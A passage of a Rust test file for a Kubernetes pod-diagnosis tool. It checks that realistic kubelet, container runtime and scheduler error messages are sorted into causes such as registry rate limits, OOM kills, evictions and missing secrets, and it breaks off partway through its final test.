//! A cause for every abnormal pod, matched on the texts the kubelet, containerd and
//! the API server really write. Each case names where its text comes from.

use crate::support;
use opc_core::cluster::ClusterName;

use chrono::{DateTime, Utc};
use opc_core::clock::Clock;
use opc_core::cluster::{Abnormal, Scope};
use opc_core::config::Config;
use opc_core::pod::{Capped, EventKind, EventTarget, PodEvent, PodRecord};
use opc_core::policy::{Flags, Policy};
use opc_core::rules::{CauseClass, cause, classify, default_chain};
use opc_core::session::ClusterSession;
use support::pods::{PodBuilder, pod};

fn now() -> DateTime<Utc> {
    "2026-11-20T12:00:00Z".parse().unwrap()
}

fn record(builder: PodBuilder) -> PodRecord {
    let mut interner = opc_core::pod::Interner::default();
    builder.wire().into_record(&mut interner)
}

fn class_of(builder: PodBuilder) -> (CauseClass, opc_core::rules::Cause) {
    told(builder, &[])
}

/// The cause of a pod whose latest Warning Events are `events`.
fn told(builder: PodBuilder, events: &[PodEvent]) -> (CauseClass, opc_core::rules::Cause) {
    let pod = record(builder);
    let finding = classify(&pod, &default_chain(), now()).expect("abnormal");
    let cause = cause(&pod, &finding, events, None, now());
    (cause.class, cause)
}

fn warning(kind: EventKind, message: &str, minutes_ago: i64) -> PodEvent {
    PodEvent::new(
        kind,
        message,
        4,
        Some(now() - chrono::Duration::minutes(minutes_ago)),
    )
}

/// The pod of `uid` in `shop`, as an Event written there names it.
fn in_shop(uid: &str) -> EventTarget {
    EventTarget {
        namespace: "shop".into(),
        uid: uid.into(),
    }
}

fn deployment_pod(name: &str) -> PodBuilder {
    pod(name)
        .ns("shop")
        .owned_by("apps/v1", "ReplicaSet", "web-7d9f8c6b5")
}

#[test]
fn image_pull_failures_are_told_apart_by_the_runtimes_words() {
    let cases = [
        // containerd, a tag that does not exist (ErrImagePull's message, via the kubelet).
        (
            "ErrImagePull",
            "rpc error: code = NotFound desc = failed to pull and unpack image \"docker.io/library/web:v9\": failed to resolve reference \"docker.io/library/web:v9\": docker.io/library/web:v9: not found",
            CauseClass::ImageNotFound,
        ),
        // containerd, a private repository without credentials.
        (
            "ErrImagePull",
            "rpc error: code = Unknown desc = failed to pull and unpack image \"registry.example.com/team/web:1\": failed to resolve reference \"registry.example.com/team/web:1\": pull access denied, repository does not exist or may require authorization: server message: insufficient_scope: authorization failed",
            CauseClass::ImageNotFound,
        ),
        // containerd against Docker Hub's pull limit.
        (
            "ErrImagePull",
            "rpc error: code = Unknown desc = failed to pull and unpack image \"docker.io/library/nginx:1.25\": failed to copy: httpReadSeeker: failed open: unexpected status code https://registry-1.docker.io/v2/library/nginx/manifests/sha256:abc: 429 Too Many Requests - Server message: toomanyrequests: You have reached your pull rate limit.",
            CauseClass::RegistryRateLimit,
        ),
        // containerd, wrong credentials.
        (
            "ErrImagePull",
            "rpc error: code = Unknown desc = failed to pull and unpack image \"registry.example.com/web:1\": failed to resolve reference \"registry.example.com/web:1\": failed to authorize: failed to fetch oauth token: unexpected status: 401 Unauthorized",
            CauseClass::RegistryAuth,
        ),
        // containerd, a registry name that does not resolve.
        (
            "ErrImagePull",
            "rpc error: code = Unknown desc = failed to pull and unpack image \"registry.invalid/web:1\": failed to resolve reference \"registry.invalid/web:1\": failed to do request: Head \"https://registry.invalid/v2/web/manifests/1\": dial tcp: lookup registry.invalid on 10.96.0.10:53: no such host",
            CauseClass::RegistryUnreachable,
        ),
        // containerd, a self-signed registry.
        (
            "ErrImagePull",
            "rpc error: code = Unknown desc = failed to pull and unpack image \"registry.local/web:1\": failed to resolve reference \"registry.local/web:1\": failed to do request: Head \"https://registry.local/v2/web/manifests/1\": tls: failed to verify certificate: x509: certificate signed by unknown authority",
            CauseClass::RegistryTls,
        ),
        // The kubelet (kuberuntime_image.go): an unparsable reference.
        (
            "InvalidImageName",
            "Failed to apply default image tag \"Web:Latest\": couldn't parse image reference \"Web:Latest\": invalid reference format: repository name must be lowercase",
            CauseClass::InvalidImageName,
        ),
        // The kubelet: imagePullPolicy Never.
        (
            "ErrImageNeverPull",
            "Container image \"web:1\" is not present with pull policy of Never",
            CauseClass::ImageNeverPull,
        ),
        // The kubelet's back-off: the reason is only in the Failed Event.
        (
            "ImagePullBackOff",
            "Back-off pulling image \"registry.invalid/web:1\"",
            CauseClass::PullUnknown,
        ),
    ];
    for (reason, message, expected) in cases {
        let (class, cause) = class_of(deployment_pod("web-1").waiting_with(reason, message));
        assert_eq!(class, expected, "{message}");
        assert!(cause.evidence[0].text.contains(message), "{cause:?}");
        assert!(cause.next.contains("z scales"), "{cause:?}");
    }
    let (_, bare) =
        class_of(pod("bare").waiting_with("ImagePullBackOff", "Back-off pulling image \"x\""));
    assert!(
        bare.next.contains("d deletes"),
        "a bare pod has nothing to scale: {bare:?}"
    );
}

#[test]
fn crashes_say_how_the_last_run_ended() {
    let (class, cause) = class_of(
        deployment_pod("web-1")
            .crash_looping(6, "OOMKilled")
            .exit_code(137),
    );
    assert_eq!(class, CauseClass::OomKilled);
    assert!(cause.detail.contains("ran out of memory"), "{cause:?}");
    let (class, cause) = class_of(
        deployment_pod("web-1")
            .crash_looping(6, "Error")
            .exit_code(143),
    );
    assert_eq!(class, CauseClass::ExitCode);
    assert!(cause.detail.contains("143 (SIGTERM)"), "{cause:?}");
    assert!(cause.next.contains("--previous"), "{cause:?}");
    let (class, _) = class_of(
        deployment_pod("web-1")
            .crash_looping(6, "Completed")
            .exit_code(0),
    );
    assert_eq!(class, CauseClass::ExitZero);
}

#[test]
fn config_errors_name_what_is_missing() {
    // The kubelet (kubelet_pods.go / secret and configmap managers).
    let cases = [
        (
            "secret \"db-creds\" not found",
            CauseClass::MissingSecret,
            "secret db-creds",
        ),
        (
            "configmap \"app-config\" not found",
            CauseClass::MissingConfigMap,
            "configmap app-config",
        ),
        (
            "couldn't find key password in Secret shop/db-creds",
            CauseClass::MissingKey,
            "couldn't find key password",
        ),
    ];
    for (message, expected, named) in cases {
        let (class, cause) =
            class_of(deployment_pod("web-1").waiting_with("CreateContainerConfigError", message));
        assert_eq!(class, expected, "{message}");
        assert!(cause.detail.contains(named), "{cause:?}");
    }
}

#[test]
fn evictions_say_what_ran_short() {
    // The kubelet's eviction manager (pkg/kubelet/eviction/helpers.go).
    let cases = [
        (
            "The node was low on resource: memory. Threshold quantity: 100Mi, available: 63Mi. Container web was using 812Mi, request is 256Mi, has larger consumption of memory. ",
            CauseClass::NodeMemoryPressure,
        ),
        (
            "The node was low on resource: ephemeral-storage. Threshold quantity: 4Gi, available: 3Gi. ",
            CauseClass::NodeDiskPressure,
        ),
        (
            "The node was low on resource: pids. ",
            CauseClass::NodePidPressure,
        ),
        (
            "Container web exceeded its local ephemeral storage limit \"1Gi\". ",
            CauseClass::ContainerLimit,
        ),
        (
            "Usage of EmptyDir volume \"cache\" exceeds the limit \"500Mi\". ",
            CauseClass::ContainerLimit,
        ),
        ("evicted by someone", CauseClass::EvictedUnknown),
    ];
    for (message, expected) in cases {
        let (class, cause) = class_of(deployment_pod("web-1").evicted().status_message(message));
        assert_eq!(class, expected, "{message}");
        assert_eq!(cause.evidence[0].source, "status.message");
        assert_eq!(cause.evidence[0].text, message);
    }
}

#[test]
fn terminating_pods_say_what_holds_them_and_never_advise_against_their_state() {
    let (class, cause) = class_of(
        deployment_pod("web-1")
            .terminating_since("2026-11-20T10:00:00Z")
            .finalizers(&["example.com/backup"]),
    );
    assert_eq!(class, CauseClass::Finalizers);
    assert!(cause.next.starts_with('F'), "{cause:?}");
    let (class, cause) =
        class_of(deployment_pod("web-1").terminating_since("2026-11-20T10:00:00Z"));
    assert_eq!(class, CauseClass::PastGrace);
    assert!(cause.next.contains('D'), "{cause:?}");
    // An image pull error on a pod already deleting: no scale advice for it.
    let (_, cause) = class_of(
        deployment_pod("web-1")
            .waiting_with("ImagePullBackOff", "Back-off pulling image \"x\"")
            .terminating_since("2026-11-20T11:59:50Z"),
    );
    assert!(!cause.next.contains("z scales"), "{cause:?}");
}

#[test]
fn scan_json_carries_the_cause_on_every_row() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_ops-pod-cleaner"))
        .args(["scan", "--demo", "--all-contexts", "-o", "json"])
        .env_remove("OPS_POD_CLEANER_CONFIG")
        .output()
        .unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert!(!rows.is_empty());
    let names: Vec<&str> = CauseClass::ALL.iter().map(|c| c.name()).collect();
    let mut seen = std::collections::BTreeSet::new();
    for row in &rows {
        let class = row["cause"]["class"].as_str().unwrap_or_default();
        assert!(names.contains(&class), "{row}");
        assert!(row["cause"]["next"].is_string(), "{row}");
        assert!(row["cause"]["evidence"].is_array(), "{row}");
        seen.insert(class.to_string());
    }
    assert!(
        seen.len() >= 12,
        "the demo shows {} classes: {seen:?}",
        seen.len()
    );
    // A pull whose status says only "Back-off": its class comes from the kubelet's Event,
    // listed by scan beside the pods.
    let told = rows.iter().find(|r| {
        r["message"]
            .as_str()
            .is_some_and(|m| m.starts_with("Back-off pulling image"))
            && r["cause"]["class"] != "pullUnknown"
    });
    let told = told.expect("a back-off pull classed by its Event");
    let sources: Vec<&str> = told["cause"]["evidence"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|e| e["source"].as_str())
        .collect();
    assert!(
        sources.iter().any(|s| s.starts_with("Event Failed")),
        "{told}"
    );
}

#[test]
fn a_pull_in_back_off_takes_its_class_from_the_kubelets_failed_event() {
    let back_off = || {
        deployment_pod("web-1").waiting_with(
            "ImagePullBackOff",
            "Back-off pulling image \"registry.example.com/web:1\"",
        )
    };
    // The status alone says nothing: the class says so.
    assert_eq!(class_of(back_off()).0, CauseClass::PullUnknown);
    // The kubelet's Failed Event (pkg/kubelet/images/image_manager.go: `Failed to pull image
    // %q: %v`), with containerd's and CRI-O's words for the same failures.
    let cases = [
        // containerd against Docker Hub's limit.
        (
            "Failed to pull image \"docker.io/library/nginx:1.25\": failed to pull and unpack image \"docker.io/library/nginx:1.25\": failed to copy: httpReadSeeker: failed open: unexpected status code https://registry-1.docker.io/v2/library/nginx/manifests/sha256:3f: 429 Too Many Requests - Server message: toomanyrequests: You have reached your pull rate limit. You may increase the limit by authenticating and upgrading: https://www.docker.com/increase-rate-limit",
            CauseClass::RegistryRateLimit,
        ),
        // CRI-O (containers/image), the same limit.
        (
            "Failed to pull image \"docker.io/library/nginx:1.25\": rpc error: code = Unknown desc = reading manifest 1.25 in docker.io/library/nginx: toomanyrequests: You have reached your pull rate limit.",
            CauseClass::RegistryRateLimit,
        ),
        // containerd, a registry that does not resolve.
        (
            "Failed to pull image \"registry.internal.example/web:1\": rpc error: code = Unknown desc = failed to pull and unpack image \"registry.internal.example/web:1\": failed to resolve reference \"registry.internal.example/web:1\": failed to do request: Head \"https://registry.internal.example/v2/web/manifests/1\": dial tcp: lookup registry.internal.example on 10.96.0.10:53: no such host",
            CauseClass::RegistryUnreachable,
        ),
        // CRI-O, the same (containers/image's `pinging container registry`).
        (
            "Failed to pull image \"registry.internal.example/web:1\": rpc error: code = Unknown desc = pinging container registry registry.internal.example: Get \"https://registry.internal.example/v2/\": dial tcp: lookup registry.internal.example: no such host",
            CauseClass::RegistryUnreachable,
        ),
        // CRI-O, a tag that does not exist.
        (
            "Failed to pull image \"quay.io/acme/web:9\": rpc error: code = Unknown desc = reading manifest 9 in quay.io/acme/web: manifest unknown",
            CauseClass::ImageNotFound,
        ),
        // CRI-O, a private repository.
        (
            "Failed to pull image \"quay.io/acme/web:1\": rpc error: code = Unknown desc = reading manifest 1 in quay.io/acme/web: unauthorized: access to the requested resource is not authorized",
            CauseClass::RegistryAuth,
        ),
        // containerd, a self-signed registry.
        (
            "Failed to pull image \"registry.local/web:1\": rpc error: code = Unknown desc = failed to pull and unpack image \"registry.local/web:1\": failed to resolve reference \"registry.local/web:1\": failed to do request: Head \"https://registry.local/v2/web/manifests/1\": tls: failed to verify certificate: x509: certificate signed by unknown authority",
            CauseClass::RegistryTls,
        ),
        // CRI-O, the same.
        (
            "Failed to pull image \"registry.local/web:1\": rpc error: code = Unknown desc = pinging container registry registry.local: Get \"https://registry.local/v2/\": tls: failed to verify certificate: x509: certificate signed by unknown authority",
            CauseClass::RegistryTls,
        ),
    ];
    for (message, expected) in cases {
        let event = warning(EventKind::PullFailed, message, 1);
        let (class, cause) = told(back_off(), std::slice::from_ref(&event));
        assert_eq!(class, expected, "{message}");
        let quoted = cause
            .evidence
            .iter()
            .find(|e| e.source.starts_with("Event Failed"));
        assert_eq!(quoted.map(|e| e.text.as_str()), Some(message), "{cause:?}");
        assert!(
            cause.evidence[0].source.contains("state.waiting"),
            "{cause:?}"
        );
    }
}

#[test]
fn a_status_that_says_why_wins_over_an_older_event() {
    let pod = deployment_pod("web-1").waiting_with(
        "ErrImagePull",
        "rpc error: code = NotFound desc = failed to pull and unpack image \"docker.io/library/web:v9\": failed to resolve reference \"docker.io/library/web:v9\": docker.io/library/web:v9: not found",
    );
    let stale = warning(
        EventKind::PullFailed,
        "Failed to pull image \"docker.io/library/web:v9\": 429 Too Many Requests",
        30,
    );
    assert_eq!(told(pod, &[stale]).0, CauseClass::ImageNotFound);
}

#[test]
fn the_scheduler_verdict_names_the_reason_that_excludes_most_nodes() {
    // kube-scheduler's FitError (pkg/scheduler/framework/types.go) with the plugins' reasons:
    // noderesources `Insufficient cpu`, tainttoleration `node(s) had untolerated taint {…}`,
    // nodeaffinity `node(s) didn't match Pod's node affinity/selector`, volumebinding, and
    // nodeunschedulable `node(s) were unschedulable`.
    let cases = [
        (
            "0/6 nodes are available: 4 Insufficient cpu, 2 node(s) had untolerated taint {dedicated: gpu}. preemption: 0/6 nodes are available: 4 No preemption victims found for incoming pod, 2 Preemption is not helpful for scheduling.",
            CauseClass::InsufficientResources,
        ),
        (
            "0/6 nodes are available: 1 Insufficient memory, 5 node(s) had untolerated taint {node-role.kubernetes.io/control-plane: }. preemption: 0/6 nodes are available: 6 Preemption is not helpful for scheduling.",
            CauseClass::UntoleratedTaint,
        ),
        // Before v1.25: `had taint {…}, that the pod didn't tolerate`. This one is what the
        // v1.24 scheduler of ../shared/realk8s wrote for nodes the node controller tainted.
        (
            "0/2 nodes are available: 2 node(s) had taint {node.kubernetes.io/not-ready: }, that the pod didn't tolerate.",
            CauseClass::UntoleratedTaint,
        ),
        (
            "0/3 nodes are available: 3 node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate.",
            CauseClass::UntoleratedTaint,
        ),
        (
            "0/5 nodes are available: 5 node(s) didn't match Pod's node affinity/selector. preemption: 0/5 nodes are available: 5 Preemption is not helpful for scheduling.",
            CauseClass::NodeAffinity,
        ),
        (
            "0/3 nodes are available: pod has unbound immediate PersistentVolumeClaims. preemption: 0/3 nodes are available: 3 Preemption is not helpful for scheduling.",
            CauseClass::UnboundVolume,
        ),
        (
            "0/4 nodes are available: 4 node(s) were unschedulable. preemption: 0/4 nodes are available: 4 Preemption is not helpful for scheduling.",
            CauseClass::UnschedulableNodes,
        ),
        (
            "0/2 nodes are available: 2 Too many pods. preemption: 0/2 nodes are available: 2 No preemption victims found for incoming pod.",
            CauseClass::TooManyPods,
        ),
        (
            "0/3 nodes are available: 3 node(s) didn't match pod anti-affinity rules. preemption: 0/3 nodes are available: 3 No preemption victims found for incoming pod.",
            CauseClass::PendingUnknown,
        ),
        (
            "no nodes available to schedule pods",
            CauseClass::UnschedulableNodes,
        ),
    ];
    for (verdict, expected) in cases {
        let (class, cause) = class_of(deployment_pod("web-1").unschedulable_because(verdict));
        assert_eq!(class, expected, "{verdict}");
        assert_eq!(
            cause.evidence[0].source, "status.conditions[PodScheduled].message",
            "{cause:?}"
        );
    }
    // The detail gives the counts, reason by reason, and what the pod asks for.
    let (_, cause) = class_of(
        deployment_pod("web-1")
            .unschedulable_because(cases[0].0)
            .memory_limit("1Gi"),
    );
    assert!(
        cause.detail.contains(
            "4 Insufficient cpu, 2 node(s) had untolerated taint {dedicated: gpu}; it asks for cpu 500m, memory 64Mi"
        ),
        "{cause:?}"
    );
}

#[test]
fn a_pod_without_a_verdict_reads_the_failed_scheduling_event_or_says_it_has_none() {
    let pending = || deployment_pod("web-1").unschedulable_because("");
    assert_eq!(class_of(pending()).0, CauseClass::NotScheduled);
    let event = warning(
        EventKind::FailedScheduling,
        "0/6 nodes are available: 6 Insufficient nvidia.com/gpu. preemption: 0/6 nodes are available: 6 No preemption victims found for incoming pod.",
        2,
    );
    let (class, cause) = told(pending(), &[event]);
    assert_eq!(class, CauseClass::InsufficientResources);
    assert!(
        cause
            .evidence
            .iter()
            .any(|e| e.source.starts_with("Event FailedScheduling"))
    );
}

#[test]
fn a_container_its_liveness_probe_kills_is_told_from_one_that_exits() {
    // pkg/kubelet/prober/prober.go: `Liveness probe failed: HTTP probe failed with
    // statuscode: 503`; the kubelet then stops the container (exit 137 after the grace).
    let killed = || {
        deployment_pod("web-1")
            .crash_looping(9, "Error")
            .exit_code(137)
    };
    // finishedAt of `restarts()` is 09:00; the probe failed just before.
    let probe = |minutes_before_nine: i64| {
        PodEvent::new(
            EventKind::ProbeFailed,
            "Liveness probe failed: HTTP probe failed with statuscode: 503",
            27,
            Some(
                "2026-11-20T09:00:00Z".parse::<DateTime<Utc>>().unwrap()
                    - chrono::Duration::minutes(minutes_before_nine),
            ),
        )
    };
    let (class, cause) = told(killed(), &[probe(0)]);
    assert_eq!(class, CauseClass::ProbeFailed);
    assert!(cause.detail.contains("liveness probe"), "{cause:?}");
    assert!(
        cause
            .evidence
            .iter()
            .any(|e| e.text.contains("statuscode: 503")),
        "{cause:?}"
    );
    // A probe that failed long before the last run ended did not end it.
    assert_eq!(told(killed(), &[probe(60)]).0, CauseClass::ExitCode);
    assert_eq!(class_of(killed()).0, CauseClass::ExitCode);
}

#[test]
fn an_oom_kill_names_the_limit_it_reached() {
    let (class, cause) = class_of(
        deployment_pod("web-1")
            .crash_looping(6, "OOMKilled")
            .exit_code(137)
            .memory_limit("256Mi"),
    );
    assert_eq!(class, CauseClass::OomKilled);
    assert!(cause.detail.contains("memory limit of 256Mi"), "{cause:?}");
    let (_, cause) = class_of(
        deployment_pod("web-1")
            .crash_looping(6, "OOMKilled")
            .exit_code(137)
            .memory_limit("1G"),
    );
    assert!(cause.detail.contains("953.7Mi"), "{cause:?}");
}

#[test]
fn a_volume_that_cannot_mount_names_what_is_missing() {
    // pkg/volume/secret and configmap: `MountVolume.SetUp failed for volume "cfg" :
    // configmap "app-config" not found`.
    let waiting = || deployment_pod("web-1").waiting_with("CreateContainerError", "");
    let mount = warning(
        EventKind::FailedMount,
        "MountVolume.SetUp failed for volume \"cfg\" : configmap \"app-config\" not found",
        1,
    );
    let (class, cause) = told(waiting(), &[mount]);
    assert_eq!(class, CauseClass::MissingConfigMap);
    assert!(cause.detail.contains("configmap app-config"), "{cause:?}");
    let mount = warning(
        EventKind::FailedMount,
        "MountVolume.SetUp failed for volume \"tls\" : secret \"web-tls\" not found",
        1,
    );
    assert_eq!(told(waiting(), &[mount]).0, CauseClass::MissingSecret);
}

#[test]
fn events_are_read_as_the_kubelet_and_the_scheduler_write_them() {
    use opc_core::pod::WireEvent as Event;
    // The kubelet: core/v1, aggregated by count and lastTimestamp.
    let kubelet: Event = serde_json::from_value(serde_json::json!({
        "metadata": {"name": "web-1.17a8c2f0e3b4a1c2", "namespace": "shop"},
        "involvedObject": {"kind": "Pod", "name": "web-1", "namespace": "shop", "uid": "u-1",
            "apiVersion": "v1", "fieldPath": "spec.containers{web}"},
        "reason": "Failed", "type": "Warning", "count": 7,
        "message": "Failed to pull image \"x:1\": rpc error: code = NotFound desc = x:1: not found",
        "source": {"component": "kubelet", "host": "node-1"},
        "firstTimestamp": "2026-11-20T11:00:00Z", "lastTimestamp": "2026-11-20T11:55:00Z",
    }))
    .unwrap();
    let (target, event) = opc_core::pod::pod_event(&kubelet, now()).expect("kept");
    assert_eq!(target, in_shop("u-1"));
    assert_eq!((event.kind, event.count), (EventKind::PullFailed, 7));
    assert_eq!(event.last, Some("2026-11-20T11:55:00Z".parse().unwrap()));
    // The scheduler: events.k8s.io/v1 read through core/v1, a series and no count.
    let scheduler: Event = serde_json::from_value(serde_json::json!({
        "metadata": {"name": "web-2.17a8c2f0e3b4a1c3", "namespace": "shop"},
        "involvedObject": {"kind": "Pod", "name": "web-2", "namespace": "shop", "uid": "u-2", "apiVersion": "v1"},
        "reason": "FailedScheduling", "type": "Warning",
        "message": "0/6 nodes are available: 6 Insufficient cpu.",
        "source": {}, "reportingComponent": "default-scheduler",
        "eventTime": "2026-11-20T11:00:00.123456Z",
        "series": {"count": 12, "lastObservedTime": "2026-11-20T11:58:00.000001Z"},
        "firstTimestamp": null, "lastTimestamp": null,
    }))
    .unwrap();
    let (_, event) = opc_core::pod::pod_event(&scheduler, now()).expect("kept");
    assert_eq!((event.kind, event.count), (EventKind::FailedScheduling, 12));
    assert_eq!(
        event.last.map(|t| t.to_rfc3339()),
        Some("2026-11-20T11:58:00.000001+00:00".into())
    );
    // Normal Events, and Warnings a cause does not read, are not kept.
    let mut normal = kubelet.clone();
    normal.type_ = Some(Capped("Normal".into()));
    assert!(opc_core::pod::pod_event(&normal, now()).is_none());
    let mut back_off = kubelet;
    back_off.message = Some(Capped("Error: ImagePullBackOff".into()));
    assert!(opc_core::pod::pod_event(&back_off, now()).is_none());
}

#[test]
fn an_event_finds_its_pods_cause_again_and_wakes_readers() {
    use opc_core::cluster::Cache;
    use opc_core::rules::RuleKind;
    let cache = Cache::for_cluster(
        ClusterName::new(""),
        default_chain(),
        Clock::starting_at(now()),
    );
    let back_off = deployment_pod("web-1")
        .uid("u-web")
        .waiting_with("ImagePullBackOff", "Back-off pulling image \"nginx:1.25\"");
    cache.upsert(back_off.wire(), now());
    assert_eq!(cache.findings()[0].cause, CauseClass::PullUnknown);
    let mut changes = cache.subscribe();
    changes.borrow_and_update();
    let limit = "Failed to pull image \"nginx:1.25\": 429 Too Many Requests - Server message: toomanyrequests: You have reached your pull rate limit.";
    cache.events().record(
        in_shop("u-web"),
        warning(EventKind::PullFailed, limit, 1),
        now(),
    );
    assert!(changes.has_changed().unwrap(), "readers are woken");
    let found = cache.findings();
    assert_eq!(found[0].cause, CauseClass::RegistryRateLimit);
    assert_eq!(found[0].events().len(), 1);
    assert_eq!(
        cache.cause_counts().into_iter().collect::<Vec<_>>(),
        [((RuleKind::ImagePull, CauseClass::RegistryRateLimit), 1)]
    );
    // An older Event of the same kind does not replace the newer.
    let older =
        "Failed to pull image \"nginx:1.25\": dial tcp: lookup registry-1.docker.io: no such host";
    cache.events().record(
        in_shop("u-web"),
        warning(EventKind::PullFailed, older, 9),
        now(),
    );
    assert_eq!(cache.findings()[0].cause, CauseClass::RegistryRateLimit);
    // Events of a pod not listed yet wait for it; old ones of pods never seen are pruned.
    cache.events().record(
        in_shop("u-later"),
        warning(EventKind::PullFailed, limit, 1),
        now(),
    );
    cache.events().record(
        in_shop("u-gone"),
        warning(EventKind::PullFailed, limit, 60),
        now(),
    );
    cache.events().prune(now() - chrono::Duration::minutes(10));
    assert_eq!(cache.events().pod_count(), 2, "u-web and u-later");
    let later = deployment_pod("web-2")
        .uid("u-later")
        .waiting_with("ImagePullBackOff", "Back-off pulling image \"nginx:1.25\"");
    cache.upsert(later.wire(), now());
    assert!(
        cache
            .findings()
            .iter()
            .all(|f| f.cause == CauseClass::RegistryRateLimit)
    );
    // A pod that goes takes its Events with it.
    cache.remove("u-web");
    cache.remove("u-later");
    assert_eq!(cache.events().pod_count(), 0);
}

/// A session on a simulated cluster, as every mode opens one: its pods and their Events
/// watched into its cache.
pub(crate) async fn session_on(
    sim: &kube_sim::SimCluster,
) -> (kube_sim::SimServer, ClusterSession) {
    let server = kube_sim::SimServer::start(sim.clone()).await.unwrap();
    let session = support::sim::open_session(&server.client(), &[Scope::All], &at_once());
    (server, session)
}

/// The built-in rules, each claiming a pod as soon as it matches.
pub(crate) fn at_once() -> Policy {
    let mut config = Config::default();
    config
        .rules
        .iter_mut()
        .for_each(|r| r.after = std::time::Duration::ZERO);
    Policy::new(Flags::default(), &config)
}

fn cause_of(session: &ClusterSession, name: &str) -> Option<CauseClass> {
    finding_of(session, name).map(|f| f.cause)
}

/// The finding on the pod `name`, under the chain the session's cache keeps.
pub(crate) fn finding_of(session: &ClusterSession, name: &str) -> Option<Abnormal> {
    session
        .cache
        .findings()
        .into_iter()
        .find(|f| &*f.pod.name == name)
}

fn in_back_off(name: &str, image: &str) -> k8s_openapi::api::core::v1::Pod {
    support::sim::typed(
        deployment_pod(name)
            .on_node("sim-node-1")
            .waiting_with(
                "ImagePullBackOff",
                &format!("Back-off pulling image \"{image}\""),
            )
            .json(),
    )
}

#[tokio::test]
async fn a_pull_in_back_off_takes_its_class_from_the_event_the_kubelet_writes() {
    use kube_sim::PodEvent as Written;
    let sim = kube_sim::SimCluster::new();
    // One pod whose Event is there before the product starts (read by the list), one whose
    // Event comes while it watches.
    sim.create_pod(in_back_off("web-1", "registry.internal.example/web:1"));
    sim.create_pod(in_back_off("web-2", "docker.io/library/nginx:1.25"));
    let unreachable = "Failed to pull image \"registry.internal.example/web:1\": rpc error: code = Unknown desc = failed to pull and unpack image \"registry.internal.example/web:1\": failed to resolve reference \"registry.internal.example/web:1\": failed to do request: Head \"https://registry.internal.example/v2/web/manifests/1\": dial tcp: lookup registry.internal.example on 127.0.0.53:53: no such host";
    sim.record_pod_event(
        "shop",
        "web-1",
        Written::warning("Failed", unreachable).container("app"),
    )
    .expect("the pod is there");
    let (_server, session) = session_on(&sim).await;
    support::sim::eventually("web-1's class from the listed Event", || {
        cause_of(&session, "web-1") == Some(CauseClass::RegistryUnreachable)
    })
    .await;
    assert_eq!(cause_of(&session, "web-2"), Some(CauseClass::PullUnknown));
    // What the kubelet writes around a failed pull: the noise first, then the reason.
    for noise in [
        Written::warning("Failed", "Error: ImagePullBackOff"),
        Written::normal(
            "BackOff",
            "Back-off pulling image \"docker.io/library/nginx:1.25\"",
        ),
    ] {
        sim.record_pod_event("shop", "web-2", noise.container("app"));
    }
    let limit = "Failed to pull image \"docker.io/library/nginx:1.25\": failed to pull and unpack image \"docker.io/library/nginx:1.25\": failed to copy: httpReadSeeker: failed open: unexpected status code https://registry-1.docker.io/v2/library/nginx/manifests/sha256:3f: 429 Too Many Requests - Server message: toomanyrequests: You have reached your pull rate limit.";
    sim.record_pod_event(
        "shop",
        "web-2",
        Written::warning("Failed", limit).container("app"),
    );
    support::sim::eventually("web-2's class from the watched Event", || {
        cause_of(&session, "web-2") == Some(CauseClass::RegistryRateLimit)
    })
    .await;
    let found = session.cache.findings();
    let web2 = found
        .iter()
        .find(|f| &*f.pod.name == "web-2")
        .expect("found");
    assert_eq!(
        web2.events().len(),
        1,
        "only the Event a cause reads is kept"
    );
}

#[tokio::test]
async fn without_leave_to_read_events_causes_come_from_the_status() {
    let sim = kube_sim::SimCluster::new();
    sim.faults().deny("list", "events", None);
    sim.faults().deny("watch", "events", None);
    sim.create_pod(support::sim::typed(
        deployment_pod("api-1")
            .on_node("sim-node-1")
            .crash_looping(7, "OOMKilled")
            .exit_code(137)
            .json(),
    ));
    sim.create_pod(in_back_off("web-1", "nginx:1.25"));
    let (_server, session) = session_on(&sim).await;
    support::sim::eventually("the pods' causes from their status", || {
        cause_of(&session, "api-1") == Some(CauseClass::OomKilled)
            && cause_of(&session, "web-1") == Some(CauseClass::PullUnknown)
    })
    .await;
    assert!(
        session.cache.health().synced(),
        "the pod view does not wait on Events"
    );
}

#[test]
fn every_class_of_the_vocabulary_is_reached_from_real_words() {
    let pull = |reason: &str, message: &str| deployment_pod("web-1").waiting_with(reason, message);
    let back_off = || pull("ImagePullBackOff", "Back-off pulling image \"web:1\"");
    let config = |message: &str| pull("CreateContainerConfigError", message);
    let evicted = |message: &str| deployment_pod("web-1").evicted().status_message(message);
    let verdict = |message: &str| deployment_pod("web-1").unschedulable_because(message);
    let crash = |reason: &str, code: i32| {
        deployment_pod("web-1")
            .crash_looping(5, reason)
            .exit_code(code)
    };
    let deleting = || deployment_pod("web-1").terminating_since("2026-11-20T10:00:00Z");
    let probe = warning(
        EventKind::ProbeFailed,
        "Liveness probe failed: Get \"http://10.0.0.7:8080/healthz\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)",
        0,
    );
    // `finishedAt` of crash_looping is 09:00; the probe failed just before.
    let probe = PodEvent::new(
        probe.kind,
        &probe.message,
        3,
        Some("2026-11-20T08:59:50Z".parse().unwrap()),
    );
    let cases: Vec<(PodBuilder, Vec<PodEvent>, CauseClass)> = vec![
        (
            pull(
                "ErrImagePull",
                "rpc error: code = NotFound desc = failed to pull and unpack image \"docker.io/library/web:9\": failed to resolve reference \"docker.io/library/web:9\": docker.io/library/web:9: not found",
            ),
            vec![],
            CauseClass::ImageNotFound,
        ),
        (
            pull(
                "ErrImagePull",
                "rpc error: code = Unknown desc = failed to pull and unpack image \"r.example/web:1\": failed to resolve reference \"r.example/web:1\": failed to authorize: failed to fetch oauth token: unexpected status: 401 Unauthorized",
            ),
            vec![],
            CauseClass::RegistryAuth,
        ),
        (
            back_off(),
            vec![warning(
                EventKind::PullFailed,
                "Failed to pull image \"web:1\": rpc error: code = Unknown desc = reading manifest 1 in docker.io/library/web: toomanyrequests: You have reached your pull rate limit.",
                1,
            )],
            CauseClass::RegistryRateLimit,
        ),
        (
            back_off(),
            vec![warning(
                EventKind::PullFailed,
                "Failed to pull image \"r.invalid/web:1\": rpc error: code = Unknown desc = pinging container registry r.invalid: Get \"https://r.invalid/v2/\": dial tcp: lookup r.invalid: no such host",
                1,
            )],
            CauseClass::RegistryUnreachable,
        ),
        (
            pull(
                "ErrImagePull",
